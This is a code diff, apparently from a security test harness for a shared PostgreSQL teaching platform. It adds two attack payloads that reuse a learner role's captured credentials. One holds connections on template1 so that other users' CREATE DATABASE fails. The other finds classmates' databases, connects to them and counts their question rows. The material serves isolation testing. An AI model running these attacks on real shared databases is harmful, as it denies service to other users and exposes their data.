@@ -631,7 +631,94 @@ if _first_time("resources"):
     _background(_resources)
 """
 
-# --- 11. a database that grows without end ------------------------------------------------------------------
+# --- 10. a connection held on template1 (issue 20) ---------------------------------------------------------
+# While any session is connected to template1, every CREATE DATABASE that copies it fails: one connection
+# held there would fail each classmate's database fixtures.
+_ROLE_CONNECT = """
+def _as_role(dbname):
+    \"\"\"A connection of the learner's own role to `dbname`, from the credentials its app used.\"\"\"
+    args, kwargs = _CREDENTIALS[0]
+    kwargs = {{k: v for k, v in kwargs.items() if k not in ("database", "dbname")}}
+    return _original_connect(*args, **kwargs, dbname=dbname, connect_timeout=3)
+
+
+def _wait_for_credentials():
+    deadline = _time.monotonic() + 30
+    while not _CREDENTIALS and _time.monotonic() < deadline:
+        _time.sleep(0.1)
+    if not _CREDENTIALS:
+        _say("never saw the learner role's credentials")
+    return bool(_CREDENTIALS)
+"""
+
+TEMPLATE1 = """
+def _hold_template1():
+    import psycopg2
+    if not _wait_for_credentials():
+        return
+    held, refused, deadline = [], set(), _time.monotonic() + 100
+    while _time.monotonic() < deadline:  # the whole step long, in case a moment lets it in
+        for name in ("template1", "template0"):
+            try:
+                held.append(_as_role(name))
+                _say(f"SUCCEEDED: holds a connection to {{name}} (classmates' CREATE DATABASE fails)")
+            except psycopg2.Error as exc:
+                if name not in refused:
+                    refused.add(name)
+                    _say(f"refused on {{name}}: {{' '.join(str(exc).split())[-120:]}}")
+        _time.sleep(0.2)
+
+
+if _first_time("template1"):
+    _background(_hold_template1)
+"""
+
+# --- 11. classmates' databases: whatever pg_database lists, connected to and read (issue 20) ----------------
+PROWL = """
+def _prowl():
+    import psycopg2
+    if not _wait_for_credentials():
+        return
+    try:
+        own = _as_role(_CREDENTIALS[0][1].get("database") or _CREDENTIALS[0][1].get("dbname") or "postgres")
+    except psycopg2.Error as exc:
+        _say(f"cannot connect to its own database: {{exc}}")
+        return
+    own.autocommit = True
+    held, tried, deadline, passes = [], set(), _time.monotonic() + 100, 0
+    while _time.monotonic() < deadline:
+        passes += 1
+        if passes == 20:
+            _say(f"prowl: refused on {{len(tried)}} databases of others so far")
+        cur = own.cursor()
+        # The admin database (where CREATE DATABASE is run from) is open to it and holds nobody's data.
+        cur.execute(
+            "SELECT d.datname FROM pg_database d JOIN pg_roles r ON d.datdba = r.oid"
+            " WHERE r.rolname <> current_user AND d.datname <> 'postgres'"
+        )
+        for (name,) in cur.fetchall():
+            try:
+                conn = _as_role(name)
+            except psycopg2.Error:
+                tried.add(name)
+                continue
+            held.append(conn)
+            _say(f"SUCCEEDED: connected to {{name}}, a database that is not its own")
+            try:
+                read = conn.cursor()
+                read.execute("SELECT count(*) FROM question")
+                _say(f"LEAKED {{read.fetchone()[0]}} questions of {{name}}")
+            except psycopg2.Error:
+                pass
+        _time.sleep(0.1)
+    _say(f"prowl: refused on {{len(tried)}} databases of others")
+
+
+if _first_time("prowl"):
+    _background(_prowl)
+"""
+
+# --- 12. a database that grows without end ------------------------------------------------------------------
 FILL = """
 def _fill():
     import psycopg2
@@ -678,6 +765,8 @@ ATTACKS = {
     "plant": PLANT,
     "cluster": CLUSTER,
     "resources": RESOURCES,
+    "template1": _ROLE_CONNECT + TEMPLATE1,
+    "prowl": _ROLE_CONNECT + PROWL,
 }
 
 
